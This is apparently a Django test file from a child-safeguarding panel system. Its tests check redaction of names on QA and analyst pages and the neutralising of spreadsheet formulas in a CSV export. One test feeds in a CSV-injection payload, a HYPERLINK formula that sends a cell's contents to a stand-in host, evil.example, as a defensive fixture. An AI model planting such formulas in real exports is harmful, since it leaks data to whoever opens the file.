"""Panel defects found by the seventh issue-4 session's security review."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from tests.panels.conftest import decide, held_meeting

pytestmark = pytest.mark.django_db
PASSWORD = "a-long-test-password"


def _client(client, world, who):
    assert client.login(username=world["users"][who].username, password=PASSWORD)
    return client


def test_home_office_qa_page_shows_no_more_than_the_export(client, world, referral):
    """The QA export replaces the child's and members' names in free text; the QA page showed them."""
    from ccehub.panels import services as panels

    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
    rg = decide(
        world,
        meeting,
        referral,
        "rg_positive",
        rationale="Jamie Testcase was recruited by an older associate; DI Pat Police confirmed it",
        evidence_considered=["Jamie's account to Dr Sam Health"],
    )
    panels.qa_return(actor=world["as_ho"], decision=rg, reason="Say more about Jamie's account")
    panels.qa_respond(actor=world["as_lead"], decision=rg, response="Jamie told his social worker in May")
    ho = _client(client, world, "ho")
    page = ho.get(reverse("panels:qa-decision", args=[rg.pk])).content.decode()
    assert "[child]" in page and "[member]" in page
    for name in ("Jamie", "Testcase", "Pat Police", "Sam Health"):
        assert name not in page, name
    client.logout()
    # The panel's own people still read their own words.
    chair = _client(client, world, "chair")
    assert (
        "Jamie Testcase was recruited"
        in chair.get(reverse("panels:qa-decision", args=[rg.pk])).content.decode()
    )


def test_qa_csv_export_neutralises_spreadsheet_formulas(client, world, referral):
    """Free text written by a panel (rationale, dissent, evidence, response) must not run as a
    formula when Home Office QA opens the CSV in a spreadsheet."""
    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
    decide(
        world,
        meeting,
        referral,
        "rg_positive",
        rationale='=HYPERLINK("http://evil.example/?"&A1,"Open")',
        evidence_considered=["+1+1", "@SUM(1)", "-2+3"],
    )
    ho = _client(client, world, "ho")
    body = ho.get(reverse("panels:qa-export", args=["csv"])).content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 1
    for key, value in rows[0].items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)
    assert rows[0]["rationale"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_analyst_reads_no_free_text_on_panel_case_pages(client, world, child, referral):
    """Analysts work on pseudonymised data: the referral, joint plan and Safeguarding Order pages
    showed them the panel's free text (answers to information requests, rationales, plan summaries,
    order conditions), where a child's name, address or family is often written."""
    from ccehub.panels import services as panels
    from tests.panels.test_plans_orders import _order, _plan

    info = panels.information_request_create(
        actor=world["as_lead"],
        referral=referral,
        recipient_role="health",
        recipient_agency=world["health"],
        recipient_name="Dr Sam Health",
        question="Has Jamie been seen at 12 Acacia Road?",
        due_on=date(2024, 3, 15),
        today=date(2024, 3, 5),
    )
    panels.information_request_respond(
        actor=world["as_health"],
        request=info,
        response="Jamie Testcase attended with his uncle",
        today=date(2024, 3, 6),
    )
    meeting = held_meeting(world, referral, held_on=date(2024, 3, 20))
    decide(world, meeting, referral, "rg_positive", rationale="Jamie Testcase was recruited by his cousin")
    plan = _plan(world, child, summary="Jamie to move to his aunt in Luton", today=date(2024, 3, 20))
    order = _order(
        world,
        child,
        legal_basis_detail="Order for Jamie Testcase",
        conditions=[("curfew", "Jamie home at 12 Acacia Road by 21:00")],
    )
    c = _client(client, world, "analyst")
    for url in (
        reverse("panels:referral", args=[referral.pk]),
        reverse("panels:plan", args=[plan.pk]),
        reverse("panels:order", args=[order.pk]),
    ):
        response = c.get(url)
        assert response.status_code == 200, url
        page = response.content.decode()
        assert child.pseudonymous_id in page
        for text in ("Jamie", "Acacia", "uncle", "cousin", "Luton"):
            assert text not in page, (url, text)
    client.logout()
    lead = _client(client, world, "lead")
    assert (
        "Jamie Testcase attended" in lead.get(reverse("panels:referral", args=[referral.pk])).content.decode()
    )
